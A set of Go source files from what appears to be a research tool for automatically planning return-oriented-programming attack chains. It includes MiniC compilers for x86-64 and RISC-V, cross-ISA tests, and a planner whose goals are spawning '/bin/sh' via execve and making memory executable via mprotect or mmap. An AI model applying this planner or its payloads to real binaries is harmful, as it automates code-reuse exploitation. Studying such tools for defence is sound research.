		cg.p.InstRef(isa.Inst{Op: isa.OpBcc, Cond: isa.CondB, Size: 8,
			A: rvImm(0), B: rvReg(t0), C: rvReg(isa.RVT1)}, skip)
		cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(t0), B: rvReg(isa.RVZero)})
		cg.p.Label(skip)
		cg.p.La(isa.RVT1, table)
		cg.inst(isa.Inst{Op: isa.OpShl, Size: 8, A: rvReg(t0), B: rvReg(t0), C: rvImm(3)})
		cg.inst(isa.Inst{Op: isa.OpAdd, Size: 8, A: rvReg(t0), B: rvReg(t0), C: rvReg(isa.RVT1)})
		cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(t0), B: rvMem(t0, 0)})
		cg.inst(isa.Inst{Op: isa.OpJmp, A: rvReg(t0), B: rvImm(0)})
		targets := append([]int(nil), t.Targets...)
		fname := cg.f.Name
		blockLabel := func(id int) string { return fmt.Sprintf("%s_b%d", fname, id) }
		cg.tables = append(cg.tables, func() {
			cg.p.Align(8)
			cg.p.Label(table)
			for _, tgt := range targets {
				cg.p.QuadLabel(blockLabel(tgt))
			}
		})

	default:
		return fmt.Errorf("codegen: unknown terminator kind %d", t.Kind)
	}
	return nil
}
