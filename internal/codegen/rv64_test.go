package codegen

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/mir"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
)

// compileRunISA builds and executes MiniC source on a given backend.
func compileRunISA(t *testing.T, src, isaName string) (string, uint64) {
	t.Helper()
	bin, err := BuildProgram(src, nil, Options{ISA: isaName})
	if err != nil {
		t.Fatalf("build (%s): %v", isaName, err)
	}
	res, err := Run(bin, nil, 0)
	if err != nil {
		t.Fatalf("run (%s): %v", isaName, err)
	}
	return res.Stdout, res.ExitCode
}

// rvPrograms exercise every MIR construct the RV64 emitter lowers:
// arithmetic (including RV-specific div/rem edge behavior is covered by the
// emulator tests; here C semantics), control flow, switch jump tables,
// recursion, globals, byte loads/stores, and wide constants.
var rvPrograms = []struct {
	name string
	src  string
}{
	{"arith", `
int main() {
    print_int(2 + 3 * 4); print_char('\n');
    print_int(-17 / 5); print_char('\n');
    print_int(-17 % 5); print_char('\n');
    print_int(1 << 20); print_char('\n');
    print_int(255 & 0x0F); print_char('\n');
    print_int(5 ^ 3); print_char('\n');
    print_int(~0); print_char('\n');
    print_int(-8 >> 1); print_char('\n');
    return 3;
}`},
	{"compare", `
int main() {
    int a = 5; int b = -7;
    print_int(a < b); print_int(a > b); print_int(a <= 5);
    print_int(a >= 6); print_int(a == 5); print_int(a != 5);
    print_char('\n');
    return 0;
}`},
	{"control", `
int main() {
    int i; int sum = 0;
    for (i = 1; i <= 10; i++) {
        if (i % 2 == 0) continue;
        sum += i;
        if (i > 8) break;
    }
    print_int(sum); print_char('\n');
    int n = 0;
    while (n < 5) n++;
    print_int(n); print_char('\n');
    return 0;
}`},
	{"recursion", `
int fib(int n) { if (n < 2) return n; return fib(n-1) + fib(n-2); }
int main() {
    print_int(fib(15)); print_char('\n');
    return 0;
}`},
	{"globals", `
int counter;
char buf[16];
int bump(int by) { counter += by; return counter; }
int main() {
    bump(3); bump(4);
    print_int(counter); print_char('\n');
    buf[0] = 'h'; buf[1] = 'i'; buf[2] = 0;
    print_str(buf); print_char('\n');
    return 0;
}`},
	{"wideconst", `
int main() {
    int big = 0x12345678;
    big = big * 16;
    print_int(big); print_char('\n');
    print_int(0x7FFFFFFF + 1); print_char('\n');
    return 0;
}`},
}

// TestRV64MatchesX64 is the end-to-end cross-ISA check: the same MiniC
// program built for rv64 must produce byte-identical stdout and the same
// exit code as the x64 build when run under the emulator. rv64c builds the
// same uncompressed code (the C extension only matters on the decode side),
// so it must match too.
func TestRV64MatchesX64(t *testing.T) {
	for _, p := range rvPrograms {
		t.Run(p.name, func(t *testing.T) {
			wantOut, wantCode := compileRunISA(t, p.src, "x64")
			for _, name := range []string{"rv64", "rv64c"} {
				out, code := compileRunISA(t, p.src, name)
				if out != wantOut || code != wantCode {
					t.Errorf("%s: out=%q code=%d, want out=%q code=%d",
						name, out, code, wantOut, wantCode)
				}
			}
		})
	}
}

// TestRV64ObfuscatedMatchesX64 runs obfuscation passes (which introduce
// jump tables via flattening and virtualization) on the same MIR before
// lowering to each backend; outputs must still agree.
func TestRV64ObfuscatedMatchesX64(t *testing.T) {
	src := `
int fib(int n) { if (n < 2) return n; return fib(n-1) + fib(n-2); }
int main() {
    int i;
    for (i = 0; i < 10; i++) { print_int(fib(i)); print_char(' '); }
    print_char('\n');
    return 0;
}`
	for _, spec := range []string{"fla", "fla,bcf", "virt", "llvm", "tigress"} {
		passes, err := obfuscate.ParseSpec(spec)
		if err != nil {
			t.Fatalf("spec %q: %v", spec, err)
		}
		transform := func(m *mir.Module) error { return obfuscate.Apply(m, 7, passes...) }
		var want string
		for _, name := range []string{"x64", "rv64"} {
			bin, err := BuildProgram(src, transform, Options{ISA: name})
			if err != nil {
				t.Fatalf("%s/%s: build: %v", spec, name, err)
			}
			res, err := Run(bin, nil, 0)
			if err != nil {
				t.Fatalf("%s/%s: run: %v", spec, name, err)
			}
			if name == "x64" {
				want = res.Stdout
			} else if res.Stdout != want {
				t.Errorf("%s: rv64 out %q, x64 out %q", spec, res.Stdout, want)
			}
		}
	}
}

// TestRV64BinaryTagged checks the produced binary is ISA-tagged and every
// text byte decodes as a 4-byte uncompressed instruction at stride 4.
func TestRV64BinaryTagged(t *testing.T) {
	bin, err := BuildProgram(`int main() { return 7; }`, nil, Options{ISA: "rv64"})
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	if bin.ISA != "rv64" {
		t.Fatalf("bin.ISA = %q, want rv64", bin.ISA)
	}
	text := bin.Section(".text")
	if text == nil {
		t.Fatal("no .text")
	}
	if len(text.Data)%4 != 0 {
		t.Fatalf(".text length %d not a multiple of 4", len(text.Data))
	}
	for off := 0; off < len(text.Data); off += 4 {
		inst, err := isa.RV64.Decode(text.Data[off:], text.Addr+uint64(off))
		if err != nil {
			t.Fatalf("decode at +%#x: %v", off, err)
		}
		if inst.Len != 4 {
			t.Fatalf("inst at +%#x has len %d", off, inst.Len)
		}
	}
}
