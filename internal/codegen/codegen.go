// Package codegen translates MIR modules into executable SBF binaries: a
// simple spill-everything x86-64 code generator (each virtual register and
// local lives in a frame slot), a small assembly runtime (_start and the
// syscall primitives), and a linker that lays out text and data sections.
//
// Jump tables (for the TermJumpTable terminator that flattening and
// virtualization emit) are placed inside the text section, as compilers
// often do — their pointer bytes are themselves a source of unaligned
// gadgets, which is faithful to the phenomenon under study.
package codegen

import (
	"fmt"
	"strings"

	"github.com/nofreelunch/gadget-planner/internal/asm"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/mir"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// Options configure layout.
type Options struct {
	// TextBase is the executable section's base address. Default 0x401000.
	TextBase uint64
	// DataBase is the writable data section's base address. Default 0x601000.
	DataBase uint64
	// ISA selects the target instruction set: "x64" (default) or "rv64".
	// ("rv64c" builds the same uncompressed code as "rv64"; the C extension
	// matters on the decode side, where it halves the legal gadget stride.)
	ISA string
}

func (o Options) withDefaults() Options {
	if o.TextBase == 0 {
		o.TextBase = 0x401000
	}
	if o.DataBase == 0 {
		o.DataBase = 0x601000
	}
	return o
}

// RuntimePrelude is MiniC source prepended to every program: the I/O and
// conversion routines built on the __write/__read/__exit primitives. Being
// ordinary MiniC, it is obfuscated together with user code.
const RuntimePrelude = `
char __iob[64];

int __write(int fd, char *buf, int n) {
    return __syscall(1, fd, buf, n);
}

int __read(int fd, char *buf, int n) {
    return __syscall(0, fd, buf, n);
}

void print_char(int c) {
    __iob[0] = c;
    __write(1, &__iob[0], 1);
}

void print_str(char *s) {
    int n = 0;
    while (s[n] != 0) n++;
    __write(1, s, n);
}

void print_int(int x) {
    char buf[32];
    int i = 31;
    int neg = 0;
    if (x < 0) { neg = 1; x = -x; }
    if (x == 0) { buf[i] = '0'; i--; }
    while (x > 0) {
        buf[i] = '0' + x % 10;
        i--;
        x = x / 10;
    }
    if (neg) { buf[i] = '-'; i--; }
    __write(1, &buf[i + 1], 31 - i);
}

void exit(int code) {
    __syscall(60, code, 0, 0);
}
`

// Compile lowers a MIR module to an SBF binary.
func Compile(m *mir.Module, opts Options) (*sbf.Binary, error) {
	opts = opts.withDefaults()
	switch isa.CanonicalISA(opts.ISA) {
	case isa.DefaultISA:
	case "rv64", "rv64c":
		return compileRV64(m, opts, isa.CanonicalISA(opts.ISA))
	default:
		return nil, fmt.Errorf("codegen: unknown ISA %q", opts.ISA)
	}

	// Lay out globals in the data section.
	extern := make(map[string]uint64, len(m.Globals))
	var data []byte
	for _, g := range m.Globals {
		addr := opts.DataBase + uint64(len(data))
		extern[g.Name] = addr
		buf := make([]byte, (g.Size+7)&^7)
		copy(buf, g.Init)
		data = append(data, buf...)
	}
	if len(data) == 0 {
		data = make([]byte, 8) // keep the section non-empty
	}

	// Emit assembly text.
	var sb strings.Builder
	emitStart(&sb)
	emitBuiltins(&sb)
	cg := &funcGen{out: &sb}
	for _, f := range m.Funcs {
		if err := cg.emitFunc(f); err != nil {
			return nil, err
		}
	}

	res, err := asm.AssembleWithSymbols(sb.String(), opts.TextBase, extern)
	if err != nil {
		return nil, fmt.Errorf("codegen: %w", err)
	}
	entry, ok := res.Labels["_start"]
	if !ok {
		return nil, fmt.Errorf("codegen: no _start")
	}

	bin := sbf.New()
	bin.Entry = entry
	bin.AddSection(sbf.Section{
		Name: ".text", Addr: opts.TextBase,
		Flags: sbf.FlagRead | sbf.FlagExec, Data: res.Code,
	})
	bin.AddSection(sbf.Section{
		Name: ".data", Addr: opts.DataBase,
		Flags: sbf.FlagRead | sbf.FlagWrite, Data: data,
	})
	for name, addr := range res.Labels {
		bin.Symbols[name] = addr
	}
	for name, addr := range extern {
		bin.Symbols[name] = addr
	}
	return bin, nil
}

// emitStart writes the process entry point: call main, exit with its result.
func emitStart(sb *strings.Builder) {
	sb.WriteString(`
_start:
    call main
    mov rdi, rax
    mov rax, 60
    syscall
`)
}

// emitBuiltins writes the generic syscall wrapper with the same argument
// shuffle glibc's syscall(2) uses: the syscall number arrives in rdi and
// every argument shifts down one register.
func emitBuiltins(sb *strings.Builder) {
	sb.WriteString(`
__syscall:
    mov rax, rdi
    mov rdi, rsi
    mov rsi, rdx
    mov rdx, rcx
    mov r10, r8
    mov r8, r9
    syscall
    ret
`)
}

// funcGen emits one function.
type funcGen struct {
	out *strings.Builder
	f   *mir.Func
	// frameSize is the full frame below the saved registers.
	frameSize int
	localOff  []int // offset below rbp of each local slot
	vregBase  int
	tables    strings.Builder // jump tables appended after the body
	nextTable int
	// regB is the function's second scratch register. Like a real compiler,
	// the generator draws it from the callee-saved set (plus rcx) per
	// function and saves/restores it in the prologue/epilogue — which is
	// what gives optimized binaries their characteristic pop-sequence
	// function tails.
	regB  string
	regB8 string // low-byte name
	saved bool   // regB is callee-saved and pushed in the prologue
	// regC is the store-address scratch register, drawn per function from
	// the caller-saved set (as real register allocators do).
	regC string
}

var _argRegs = []string{"rdi", "rsi", "rdx", "rcx", "r8", "r9"}

// scratch register rotation: rcx plus the callee-saved registers.
var _scratchRegs = []struct{ name, low string }{
	{"rcx", "cl"},
	{"rbx", "bl"},
	{"r12", "r12b"},
	{"r13", "r13b"},
	{"r14", "r14b"},
	{"r15", "r15b"},
}

// address scratch rotation: caller-saved registers.
var _addrRegs = []string{"rdx", "rsi", "rdi", "r10", "r11"}

// pickScratch deterministically assigns scratch registers per function.
func pickScratch(name string) (regB, regB8 string, saved bool, regC string) {
	h := 0
	for _, c := range name {
		h = h*31 + int(c)
	}
	if h < 0 {
		h = -h
	}
	r := _scratchRegs[h%len(_scratchRegs)]
	return r.name, r.low, r.name != "rcx", _addrRegs[(h/7)%len(_addrRegs)]
}

func (cg *funcGen) emitFunc(f *mir.Func) error {
	if err := mir.Verify(f); err != nil {
		return err
	}
	cg.f = f
	cg.tables.Reset()
	cg.regB, cg.regB8, cg.saved, cg.regC = pickScratch(f.Name)

	// Frame layout below rbp: [saved regB][locals][vreg slots].
	base := 0
	if cg.saved {
		base = 8
	}
	cg.localOff = make([]int, len(f.Locals))
	off := base
	for i, l := range f.Locals {
		off += (l.Size + 7) &^ 7
		cg.localOff[i] = off
	}
	cg.vregBase = off
	cg.frameSize = (off - base + int(f.NumVRegs)*8 + 15) &^ 15

	p := cg.printf
	p("%s:", f.Name)
	p("    push rbp")
	p("    mov rbp, rsp")
	if cg.saved {
		p("    push %s", cg.regB)
	}
	if cg.frameSize > 0 {
		p("    sub rsp, %d", cg.frameSize)
	}
	for i := 0; i < f.NumParam; i++ {
		p("    mov qword [rbp-%d], %s", cg.localOff[i], _argRegs[i])
	}
	p("    jmp %s", cg.blockLabel(0))

	for _, b := range f.Blocks {
		p("%s:", cg.blockLabel(b.ID))
		for _, ins := range b.Instrs {
			if err := cg.emitInstr(ins); err != nil {
				return err
			}
		}
		if err := cg.emitTerm(b.Term); err != nil {
			return err
		}
	}
	cg.out.WriteString(cg.tables.String())
	return nil
}

func (cg *funcGen) printf(format string, args ...any) {
	fmt.Fprintf(cg.out, format+"\n", args...)
}

func (cg *funcGen) blockLabel(id int) string {
	return fmt.Sprintf("%s_b%d", cg.f.Name, id)
}

// vslot returns the rbp-relative offset of a virtual register slot.
func (cg *funcGen) vslot(v mir.VReg) int { return cg.vregBase + 8*(int(v)+1) }

// loadV emits a load of a vreg into a machine register.
func (cg *funcGen) loadV(reg string, v mir.VReg) {
	cg.printf("    mov %s, qword [rbp-%d]", reg, cg.vslot(v))
}

// storeV emits a store of a machine register into a vreg slot.
func (cg *funcGen) storeV(v mir.VReg, reg string) {
	cg.printf("    mov qword [rbp-%d], %s", cg.vslot(v), reg)
}

func (cg *funcGen) emitInstr(ins mir.Instr) error {
	p := cg.printf
	switch ins.Kind {
	case mir.InstConst:
		p("    movabs rax, %d", ins.Val)
		cg.storeV(ins.Dst, "rax")

	case mir.InstCopy:
		cg.loadV("rax", ins.A)
		cg.storeV(ins.Dst, "rax")

	case mir.InstNeg:
		cg.loadV("rax", ins.A)
		p("    neg rax")
		cg.storeV(ins.Dst, "rax")

	case mir.InstNot:
		cg.loadV("rax", ins.A)
		p("    not rax")
		cg.storeV(ins.Dst, "rax")

	case mir.InstBin:
		cg.loadV("rax", ins.A)
		cg.loadV(cg.regB, ins.B)
		switch ins.Op {
		case mir.OpAdd:
			p("    add rax, %s", cg.regB)
		case mir.OpSub:
			p("    sub rax, %s", cg.regB)
		case mir.OpMul:
			p("    imul rax, %s", cg.regB)
		case mir.OpDiv:
			p("    cqo")
			p("    idiv %s", cg.regB)
		case mir.OpMod:
			p("    cqo")
			p("    idiv %s", cg.regB)
			p("    mov rax, rdx")
		case mir.OpAnd:
			p("    and rax, %s", cg.regB)
		case mir.OpOr:
			p("    or rax, %s", cg.regB)
		case mir.OpXor:
			p("    xor rax, %s", cg.regB)
		case mir.OpShl:
			if cg.regB != "rcx" {
				p("    mov rcx, %s", cg.regB)
			}
			p("    shl rax, cl")
		case mir.OpShr:
			if cg.regB != "rcx" {
				p("    mov rcx, %s", cg.regB)
			}
			p("    sar rax, cl")
		case mir.OpLT, mir.OpLE, mir.OpGT, mir.OpGE, mir.OpEQ, mir.OpNE, mir.OpULT:
			p("    cmp rax, %s", cg.regB)
			p("    set%s al", _setccOf[ins.Op])
			p("    movzx eax, al")
		default:
			return fmt.Errorf("codegen: unknown binop %v", ins.Op)
		}
		cg.storeV(ins.Dst, "rax")

	case mir.InstLoad:
		cg.loadV("rax", ins.A)
		if ins.Size == 1 {
			p("    movzx eax, byte [rax]")
		} else {
			p("    mov rax, qword [rax]")
		}
		cg.storeV(ins.Dst, "rax")

	case mir.InstStore:
		cg.loadV(cg.regC, ins.A)
		cg.loadV(cg.regB, ins.B)
		if ins.Size == 1 {
			p("    mov byte [%s], %s", cg.regC, cg.regB8)
		} else {
			p("    mov qword [%s], %s", cg.regC, cg.regB)
		}

	case mir.InstAddrLocal:
		p("    lea rax, [rbp-%d]", cg.localOff[ins.Local])
		cg.storeV(ins.Dst, "rax")

	case mir.InstAddrGlobal:
		p("    movabs rax, %s", ins.Name)
		cg.storeV(ins.Dst, "rax")

	case mir.InstCall:
		if len(ins.Args) > len(_argRegs) {
			return fmt.Errorf("codegen: too many call arguments")
		}
		for i, a := range ins.Args {
			cg.loadV(_argRegs[i], a)
		}
		p("    call %s", ins.Name)
		if ins.HasDst {
			cg.storeV(ins.Dst, "rax")
		}

	default:
		return fmt.Errorf("codegen: unknown instruction kind %d", ins.Kind)
	}
	return nil
}

var _setccOf = map[mir.BinOp]string{
	mir.OpLT: "l", mir.OpLE: "le", mir.OpGT: "g", mir.OpGE: "ge",
	mir.OpEQ: "e", mir.OpNE: "ne", mir.OpULT: "b",
}

func (cg *funcGen) emitTerm(t mir.Term) error {
	p := cg.printf
	switch t.Kind {
	case mir.TermRet:
		if t.HasVal {
			cg.loadV("rax", t.Val)
		} else {
			p("    xor eax, eax")
		}
		if cg.saved {
			p("    lea rsp, [rbp-8]")
			p("    pop %s", cg.regB)
			p("    pop rbp")
			p("    ret")
		} else {
			p("    leave")
			p("    ret")
		}

	case mir.TermBr:
		p("    jmp %s", cg.blockLabel(t.Target))

	case mir.TermCondBr:
		cg.loadV("rax", t.Cond)
		p("    test rax, rax")
		p("    jnz %s", cg.blockLabel(t.Target))
		p("    jmp %s", cg.blockLabel(t.Else))

	case mir.TermJumpTable:
		table := fmt.Sprintf("%s_jt%d", cg.f.Name, cg.nextTable)
		cg.nextTable++
		cg.loadV("rax", t.Index)
		// Clamp out-of-range indices to 0 (defensive; flattening always
		// produces in-range states).
		p("    cmp rax, %d", len(t.Targets))
		p("    jb %s_ok", table)
		p("    xor eax, eax")
		p("%s_ok:", table)
		p("    movabs rcx, %s", table)
		p("    mov rax, qword [rcx+rax*8]")
		p("    jmp rax")
		// The table itself lives in text, after the function body.
		fmt.Fprintf(&cg.tables, "%s:\n", table)
		for _, tgt := range t.Targets {
			fmt.Fprintf(&cg.tables, "    .quad %s\n", cg.blockLabel(tgt))
		}

	default:
		return fmt.Errorf("codegen: unknown terminator kind %d", t.Kind)
	}
	return nil
}
