package planner_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/core"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/planner"
)

// fingerprint renders a FindAll result byte-for-byte: per goal, the plan
// signatures in order and the payload bytes.
func fingerprint(attacks map[string]*core.Attack) string {
	var sb strings.Builder
	for _, goal := range planner.Goals() {
		atk := attacks[goal.Name]
		fmt.Fprintf(&sb, "%s plans=%d payloads=%d\n", goal.Name, len(atk.Plans), len(atk.Payloads))
		for _, p := range atk.Plans {
			fmt.Fprintf(&sb, "  plan %s\n", p.Signature())
		}
		for _, pl := range atk.Payloads {
			fmt.Fprintf(&sb, "  payload %x\n", pl.Bytes)
		}
	}
	return sb.String()
}

// TestSearchDeterminism is the end-to-end acceptance check for the planner
// overhaul: planning all three goals on the obfuscated netperf-sim build
// must produce identical plan signatures and payload bytes at every worker
// count, with the memoization layers on or off — the parallel cached search
// is a pure speedup over the serial seed path, never a behavior change.
func TestFindAllDeterminism(t *testing.T) {
	bin, err := benchprog.Build(benchprog.Netperf(), obfuscate.LLVMObf(), 42)
	if err != nil {
		t.Fatal(err)
	}

	serial := planner.Options{}
	serial.DisableCache = true
	aRef := core.Analyze(bin, core.Config{Parallelism: 1, Planner: serial})
	refAttacks := aRef.FindAll()
	refFP := fingerprint(refAttacks)
	refPlans := 0
	for _, goal := range planner.Goals() {
		refPlans += len(refAttacks[goal.Name].Plans)
		if s := refAttacks[goal.Name].Search; s.CacheHits != 0 || s.CacheMisses != 0 {
			t.Fatalf("goal %s: cache-disabled run reported cache traffic: %s", goal.Name, s.StatsLine())
		}
	}
	// Not every goal is reachable on every pool (mmap needs an r10
	// producer); the determinism contract only bites if something is found.
	if refPlans == 0 {
		t.Fatal("reference run found no plans for any goal")
	}

	for _, par := range []int{1, 2, 8} {
		a := core.Analyze(bin, core.Config{Parallelism: par})
		attacks := a.FindAll()
		if got := fingerprint(attacks); got != refFP {
			t.Errorf("parallelism=%d: cached run differs from serial cache-off reference\n--- ref ---\n%s--- got ---\n%s",
				par, refFP, got)
		}
		var hits int64
		for _, goal := range planner.Goals() {
			hits += attacks[goal.Name].Search.CacheHits
		}
		if hits == 0 {
			t.Errorf("parallelism=%d: cached runs reported no cache hits", par)
		}
	}
}
