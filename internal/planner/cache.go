package planner

import (
	"sync/atomic"

	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// providerCache memoizes the planner's symbolic derivations for one search:
// provides() keyed by (gadget ID, reg, interned ValueSpec) and
// stepEntryReqs() keyed by gadget ID. Both underlying functions are pure in
// (gadget, reg, spec) — they only read the effect DAG and the pool
// builder's intern table — so cached and uncached answers are identical and
// the cache is safe to share across expansion workers.
//
// Layout: one slot per gadget ID. provides() entries live in a per-gadget
// copy-on-write map behind an atomic pointer — lookups are a plain map read
// (no locks, no string hashing), and the rare miss republishes the small
// map with the new entry. stepEntryReqs() has exactly one entry per gadget,
// a single atomic pointer.
//
// Counter determinism under parallelism: workers count lookups in per-task
// tallies (the multiset of lookups is fixed by the batch-deterministic
// search order), and a miss is counted only by the goroutine whose
// compare-and-swap actually published the entry — so misses equal the
// number of distinct keys ever looked up, and hits = lookups − misses,
// however racing workers interleave.
type providerCache struct {
	b        *expr.Builder
	disabled bool
	prov     []atomic.Pointer[provMap]
	steps    []atomic.Pointer[stepReqEntry]
	misses   atomic.Int64
}

// provMap holds one gadget's provides() results, keyed by
// reg<<32 | interned spec ID. Published maps are never mutated.
type provMap map[uint64]provEntry

type provEntry struct {
	pr provideResult
	ok bool
}

type stepReqEntry struct {
	reqs []regReq
	ok   bool
}

// tally accumulates per-task cache lookup counts; the coordinator sums them
// deterministically after each batch.
type tally struct {
	lookups int64
}

func newProviderCache(pool *gadget.Pool, disabled bool) *providerCache {
	b := pool.Builder
	// Pre-intern every register variable so provides() never mutates the
	// builder from an expansion worker, whatever the pool contains.
	be := pool.Backend()
	for r := 0; r < be.NumRegs(); r++ {
		b.Var(symex.RegVarNameOn(be, isa.Reg(r)), 64)
	}
	c := &providerCache{b: b, disabled: disabled}
	if !disabled {
		maxID := 0
		for _, g := range pool.Gadgets {
			if g.ID > maxID {
				maxID = g.ID
			}
		}
		c.prov = make([]atomic.Pointer[provMap], maxID+1)
		c.steps = make([]atomic.Pointer[stepReqEntry], maxID+1)
	}
	return c
}

// providesFor is the memoized provides(). specID must be the interned form
// of spec (keyInterner.specOf, resolved on the coordinator). Cached entries
// are shared read-only: callers copy entryReqs/demands values before
// mutating them.
func (c *providerCache) providesFor(g *gadget.Gadget, reg isa.Reg, spec ValueSpec, specID uint32, t *tally) (provideResult, bool) {
	if c.disabled {
		return provides(c.b, g, reg, spec)
	}
	t.lookups++
	k := uint64(reg)<<32 | uint64(specID)
	slot := &c.prov[g.ID]
	if m := slot.Load(); m != nil {
		if e, ok := (*m)[k]; ok {
			return e.pr, e.ok
		}
	}
	pr, ok := provides(c.b, g, reg, spec)
	for {
		cur := slot.Load()
		if cur != nil {
			if e, raced := (*cur)[k]; raced {
				// Another worker published this key first: a hit, not a miss.
				return e.pr, e.ok
			}
		}
		nm := make(provMap, 4)
		if cur != nil {
			for kk, vv := range *cur {
				nm[kk] = vv
			}
		}
		nm[k] = provEntry{pr: pr, ok: ok}
		if slot.CompareAndSwap(cur, &nm) {
			c.misses.Add(1)
			return pr, ok
		}
	}
}

// stepReqsFor is the memoized stepEntryReqs().
func (c *providerCache) stepReqsFor(g *gadget.Gadget, t *tally) ([]regReq, bool) {
	if c.disabled {
		return stepEntryReqs(c.b, g)
	}
	t.lookups++
	slot := &c.steps[g.ID]
	if e := slot.Load(); e != nil {
		return e.reqs, e.ok
	}
	reqs, ok := stepEntryReqs(c.b, g)
	if slot.CompareAndSwap(nil, &stepReqEntry{reqs: reqs, ok: ok}) {
		c.misses.Add(1)
		return reqs, ok
	}
	e := slot.Load()
	return e.reqs, e.ok
}
