// Package planner implements Gadget-Planner's partial-order planning stage
// (paper Section IV-D, Algorithm 1): a backward greedy best-first search
// from an attack goal over the gadget pool, maintaining for every partial
// plan the 5-tuple (alpha, beta, gamma, delta, epsilon) — selected gadgets,
// ordering constraints, causal links, open pre-conditions, and threatened
// links (resolved eagerly by promotion/demotion).
//
// A completed plan is an abstract chain: gadget instances, a partial order,
// and residual constraints. The payload package linearizes and concretizes
// plans into injectable bytes, discharging the residual constraints with the
// SMT solver.
package planner

import (
	"fmt"
	"sort"
	"strings"

	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
)

// SpecKind describes what kind of value a register must hold.
type SpecKind uint8

// Value specification kinds.
const (
	SpecConst     SpecKind = iota + 1 // a known 64-bit constant
	SpecPointer                       // a pointer to attacker-placed bytes
	SpecArbitrary                     // any attacker-chosen value (e.g. a jump target)
)

// ValueSpec is a requirement on a register's value.
type ValueSpec struct {
	Kind  SpecKind
	Value uint64 // SpecConst
	Data  []byte // SpecPointer: bytes the register must point at
}

// ConstSpec returns a constant-value spec.
func ConstSpec(v uint64) ValueSpec { return ValueSpec{Kind: SpecConst, Value: v} }

// PointerSpec returns a pointer-to-data spec.
func PointerSpec(data []byte) ValueSpec { return ValueSpec{Kind: SpecPointer, Data: data} }

// ArbitrarySpec returns an attacker-chosen-value spec.
func ArbitrarySpec() ValueSpec { return ValueSpec{Kind: SpecArbitrary} }

// String renders the spec.
func (v ValueSpec) String() string {
	switch v.Kind {
	case SpecConst:
		return fmt.Sprintf("%#x", v.Value)
	case SpecPointer:
		return fmt.Sprintf("ptr(%q)", v.Data)
	case SpecArbitrary:
		return "*"
	}
	return "?"
}

// equalSpec reports whether two specs request the same value.
func equalSpec(a, b ValueSpec) bool {
	if a.Kind != b.Kind {
		return false
	}
	switch a.Kind {
	case SpecConst:
		return a.Value == b.Value
	case SpecPointer:
		return string(a.Data) == string(b.Data)
	default:
		return true
	}
}

// Goal is an attack objective: register values that must hold when a
// syscall-terminated gadget fires (paper Section II-B).
type Goal struct {
	Name string
	Regs map[isa.Reg]ValueSpec
}

// ExecveGoal returns the execve("/bin/sh", 0, 0) goal:
// rax=59, rdi -> "/bin/sh", rsi=0, rdx=0.
func ExecveGoal() Goal {
	return Goal{
		Name: "execve",
		Regs: map[isa.Reg]ValueSpec{
			isa.RAX: ConstSpec(59),
			isa.RDI: PointerSpec(append([]byte("/bin/sh"), 0)),
			isa.RSI: ConstSpec(0),
			isa.RDX: ConstSpec(0),
		},
	}
}

// MprotectGoal returns the mprotect(page, 0x1000, RWX) goal for a fixed page.
func MprotectGoal(page uint64) Goal {
	return Goal{
		Name: "mprotect",
		Regs: map[isa.Reg]ValueSpec{
			isa.RAX: ConstSpec(10),
			isa.RDI: ConstSpec(page),
			isa.RSI: ConstSpec(0x1000),
			isa.RDX: ConstSpec(7), // PROT_READ|WRITE|EXEC
		},
	}
}

// MmapGoal returns the mmap(0, 0x1000, RWX, MAP_PRIVATE|MAP_ANONYMOUS, ...)
// goal. The fd/offset registers (r8/r9) are left unconstrained, as the OS
// model ignores them for anonymous mappings; r10 carries the flags.
func MmapGoal() Goal {
	return Goal{
		Name: "mmap",
		Regs: map[isa.Reg]ValueSpec{
			isa.RAX: ConstSpec(9),
			isa.RDI: ConstSpec(0),
			isa.RSI: ConstSpec(0x1000),
			isa.RDX: ConstSpec(7),
			isa.R10: ConstSpec(0x22), // MAP_PRIVATE|MAP_ANONYMOUS
		},
	}
}

// Goals returns the three standard attack goals of the paper.
func Goals() []Goal {
	return []Goal{ExecveGoal(), MprotectGoal(0x601000), MmapGoal()}
}

// Requirement is one open pre-condition in delta: the consumer step needs
// reg to hold spec at its entry.
type Requirement struct {
	Step int // consumer step ID
	Reg  isa.Reg
	Spec ValueSpec
}

// Link is a causal link in gamma: producer's exit supplies consumer's entry
// requirement on Reg.
type Link struct {
	Producer, Consumer int
	Reg                isa.Reg
	Spec               ValueSpec
}

// SlotDemand records that a gadget instance's own stack inputs must be
// chosen so that an expression over them equals a target at concretization
// time (register fed from payload slots, solved by the SMT solver).
type SlotDemand struct {
	Step int
	// Expr is over the gadget's local variable namespace.
	Expr *expr.Node
	Spec ValueSpec
}

// Step is one plan step: a gadget instance. ID 0 is the Start step (the
// payload injection itself, no gadget); the goal step carries the
// syscall-terminated gadget.
type Step struct {
	ID int
	G  *gadget.Gadget // nil for Start
}

// Plan is a (possibly incomplete) attack plan: the paper's problem state.
type Plan struct {
	Steps []Step        // alpha
	Order [][2]int      // beta: (before, after) pairs
	Links []Link        // gamma
	Open  []Requirement // delta
	// Demands are deferred slot equations (part of the plan's constraints).
	Demands []SlotDemand
	// goalStep is the syscall step's ID.
	goalStep int
}

// Clone deep-copies the plan (slices are copied; steps and gadget pointers
// are shared immutably).
func (p *Plan) Clone() *Plan {
	q := &Plan{
		Steps:    append([]Step(nil), p.Steps...),
		Order:    append([][2]int(nil), p.Order...),
		Links:    append([]Link(nil), p.Links...),
		Open:     append([]Requirement(nil), p.Open...),
		Demands:  append([]SlotDemand(nil), p.Demands...),
		goalStep: p.goalStep,
	}
	return q
}

